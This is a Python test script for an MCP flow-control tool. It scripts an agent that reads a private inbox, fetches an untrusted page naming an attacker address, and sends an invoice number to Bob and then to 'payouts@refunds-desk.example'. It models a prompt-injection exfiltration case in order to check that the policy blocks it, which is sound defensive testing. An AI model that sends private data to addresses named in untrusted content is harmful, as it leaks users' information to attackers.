"""A scripted agent for the flow check under ``ztmcp watch``: the person's prompt goes to the
model (openai SDK, default base URL), then the page the agent fetched is fed back to the model
as a tool result (it names an address the person never did); through a real MCP server behind
``ztmcp run`` it reads the inbox (private), fetches the page (untrusted) and sends the invoice
number twice: to Bob, then to the page's address.

``python flow_agent.py PROMPT POLICY``; prints each send's ``[is_error, text]`` as JSON.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from pathlib import Path

import openai
from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

SERVER = str(Path(__file__).resolve().parents[1] / "e2e" / "flow_server.py")
TOOLS = [
    {"type": "function", "function": {"name": n, "parameters": {"type": "object"}}}
    for n in ("read_inbox", "fetch_page", "send_email")
]
ATTACKER = "payouts@refunds-desk.example"


def _text(result: object) -> str:
    return " ".join(getattr(c, "text", "") for c in getattr(result, "content", []))


async def main(prompt: str, policy: str) -> None:
    model = openai.OpenAI(api_key="sk-test", max_retries=0)
    messages: list[dict[str, object]] = [{"role": "user", "content": prompt}]
    asked = model.chat.completions.create(model="gpt-test", messages=messages, tools=TOOLS)
    params = StdioServerParameters(
        command=sys.executable,
        args=[
            "-m",
            "ztmcp",
            "run",
            "--name",
            "mail",
            "--policy",
            policy,
            "--",
            sys.executable,
            SERVER,
            "all",
        ],
        env=dict(os.environ),  # the SDK passes a safe subset by default: ZTMCP_* would be lost
    )
    sent = []
    async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
        await session.initialize()
        await session.list_tools()
        inbox = await session.call_tool("read_inbox", {})
        page = await session.call_tool("fetch_page", {"url": "https://blog.example/notes"})
        call = asked.choices[0].message.tool_calls[0]  # type: ignore[index]
        messages += [
            {"role": "assistant", "content": None, "tool_calls": [call.model_dump()]},
            {"role": "tool", "tool_call_id": call.id, "content": _text(page)},
        ]
        # the whole history again, with the page as a tool result: never the person's words
        model.chat.completions.create(model="gpt-test", messages=messages, tools=TOOLS)
        invoice = "INV-2291-ZK" if "INV-2291-ZK" in _text(inbox) else "?"
        for to in ("bob@corp.example", ATTACKER):
            done = await session.call_tool("send_email", {"to": to, "body": invoice})
            sent.append([done.is_error, _text(done)])
    print(json.dumps(sent))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2]))
